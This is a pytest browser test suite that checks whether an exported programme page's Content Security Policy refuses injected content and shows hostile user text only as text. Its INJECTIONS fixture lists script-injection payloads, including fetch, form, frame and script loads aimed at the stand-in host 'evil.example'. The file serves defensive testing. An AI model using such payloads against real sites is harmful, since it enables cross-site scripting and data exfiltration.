"""What a stranger writes into a programme stays text on the exported page."""

import pytest

from tests.support import weekend
from tests.support.chromium import Readers
from tests.support.visiting import shown, star, talk

#: Ways to run, load or send something that the page's policy is to refuse, if ever one got in.
INJECTIONS = {
    "a script": "add(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))",
    "a script from elsewhere": "add(make('script', {src: 'https://evil.example/a.js'}))",
    "a handler": "document.body.setAttribute('onclick', 'window.ran = 1'), document.body.click()",
    "an image": "add(make('img', {src: 'https://evil.example/a.png'}))",
    "a frame": "add(make('iframe', {src: 'https://evil.example/'}))",
    "an object": "add(make('object', {data: 'https://evil.example/a.swf'}))",
    "a style from elsewhere": "add(make('link', {rel: 'stylesheet', href: 'https://evil.example/a'}))",
    "a request": "fetch('https://evil.example/').catch(() => 0)",
    "code from text": "setTimeout(() => { try { new Function('window.ran = 1')(); } catch {} })",
    "another base": "add(make('base', {href: 'https://evil.example/'}))",
    "a form": (
        "(form => (add(form), form.submit()))(make('form', {action: 'https://evil.example/'}))"
    ),
}
_TOOLS = """
const make = (name, attributes) => {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  return made;
};
const add = (made) => document.body.append(made);
"""


def test_hostile_texts_are_shown_as_they_are(reader: Readers) -> None:
    page = reader().opens(weekend.page())
    for text in weekend.ATTACKS:
        assert (talk(page, text).text_content() or "").count(text) >= 3


def test_hostile_texts_are_searched_and_starred_like_others(reader: Readers) -> None:
    page = reader().opens(weekend.page())
    for text in weekend.ATTACKS:
        page.locator("#q").fill(text)
        assert text in shown(page)
        star(page, text)
        page.locator("#room").select_option(label=text)
        page.locator("#room").select_option(index=0)


def test_links_lead_to_websites_only(reader: Readers) -> None:
    page = reader().opens(weekend.page())
    schemes = page.locator("[href]").evaluate_all("(all) => [...new Set(all.map(_ => _.protocol))]")
    assert set(schemes) <= {"https:", "http:"}
    out = page.locator("main a[href]:not([href^='#'])").evaluate_all("(all) => all.map(_ => _.rel)")
    assert {"noopener", "noreferrer"} <= set.intersection(*map(set, map(str.split, out)))


@pytest.mark.parametrize("name", INJECTIONS)
def test_the_policy_refuses(reader: Readers, name: str) -> None:
    mine = reader()
    page = mine.opens(weekend.page())
    page.evaluate(f"() => {{ {_TOOLS} return void ({INJECTIONS[name]}); }}")
    page.wait_for_timeout(50)
    assert page.evaluate("window.ran") is None
    assert page.evaluate("document.baseURI").startswith("https://kites.example/")
    assert [fault for fault in mine.faults if "Content Security Policy" not in fault] == []
    mine.faults.clear()


def test_the_policy_comes_before_all_that_it_is_for(reader: Readers) -> None:
    page = reader().opens(weekend.page())
    first = page.locator("head > :not(meta[charset])").first
    assert first.get_attribute("http-equiv") == "Content-Security-Policy"
    assert "unsafe" not in (first.get_attribute("content") or "unsafe")
